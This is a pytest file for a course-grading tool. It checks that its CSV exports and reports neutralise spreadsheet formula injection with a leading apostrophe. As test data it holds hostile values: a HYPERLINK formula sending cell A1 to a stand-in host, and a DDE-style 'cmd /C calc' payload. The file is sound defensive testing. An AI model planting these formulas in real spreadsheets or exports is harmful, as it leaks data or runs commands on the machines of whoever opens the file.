"""Every export and report CSV neutralises what a spreadsheet would run as a formula (issue 20, item 5).

A student registered as ``=HYPERLINK("http://…")`` / ``@SUM(1+1)``, and a failure reason starting with ``-``,
must reach the files as text (a leading apostrophe), while plain negative numbers stay numbers.
"""

from __future__ import annotations

import csv
import io

import pytest

from builders import graded_course
from cpmc_course.course import Course, export_text, make_report
from cpmc_course.gradebook import add_students, db_url
from cpmc_course.records import Student, SubmissionOutcome, save_outcomes
from cpmc_course.views.csvfile import FORMULA_START, csv_text, neutralise

HOSTILE_FIRST = '=HYPERLINK("http://exemple.invalid/?v="&A1;"clic")'
HOSTILE_LAST = "@SUM(1+1)"
HOSTILE_REASON = "-2+3 cmd|' /C calc'!A0"


def test_neutralise_prefixes_formulas_and_keeps_numbers():
    assert neutralise("=1+1") == "'=1+1" and neutralise("+33 6") == "'+33 6" and neutralise("@A1") == "'@A1"
    assert neutralise("\t=1") == "'\t=1" and neutralise("\r=1") == "'\r=1" and neutralise("-cmd") == "'-cmd"
    assert neutralise("-0.25") == "-0.25" and neutralise("-0,25") == "-0,25" and neutralise("3") == "3"
    assert neutralise("Dupont") == "Dupont" and neutralise("") == "" and neutralise(None) == ""
    assert csv_text([["=A1", "x"]]) == "'=A1,x\n"


def _cells(text: str, delimiter: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text.removeprefix("\ufeff")), delimiter=delimiter) for c in row]


def _unsafe(cells: list[str]) -> list[str]:
    return [c for c in cells if c.startswith(FORMULA_START) and neutralise(c) != c]


@pytest.fixture(scope="module")
def course(tmp_path_factory):
    root = tmp_path_factory.mktemp("injection") / "cours"
    grades = {("s1", "b5_taux_conversion"): (2, None, False), ("s1", "b5_total_leads"): (3, None, False),
              ("s1", "b5_synthese"): (None, 4.5, False)}
    graded_course(root, ["s1", "s2"], grades, submitted=["s1", "s2"])
    add_students(db_url(root), [Student("s1", HOSTILE_FIRST, HOSTILE_LAST)])
    save_outcomes(root, [SubmissionOutcome("s2", "b5_test", False, HOSTILE_REASON)])
    return Course(root)


@pytest.mark.parametrize("fmt, delimiter", [("tableur", ";"), ("moodle-notes", ","), ("cellules", ",")])
def test_every_export_writes_the_hostile_name_as_text(course, fmt, delimiter):
    cells = _cells(export_text(course, fmt), delimiter)
    assert _unsafe(cells) == []
    if fmt != "cellules":  # the per-cell file names students by id only
        assert "'" + HOSTILE_FIRST in cells and "'" + HOSTILE_LAST in cells
    if fmt == "tableur":
        assert "'" + HOSTILE_REASON in cells


def test_every_report_csv_is_neutralised(course, tmp_path):
    make_report(course, tmp_path / "rapport")
    files = sorted((tmp_path / "rapport").glob("*.csv"))
    assert {f.name for f in files} >= {"criteria.csv", "competencies.csv", "blocs.csv", "items.csv"}
    for f in files:
        text = f.read_text(encoding="utf-8")
        assert _unsafe(_cells(text, ";" if text.startswith("\ufeff") else ",")) == [], f.name
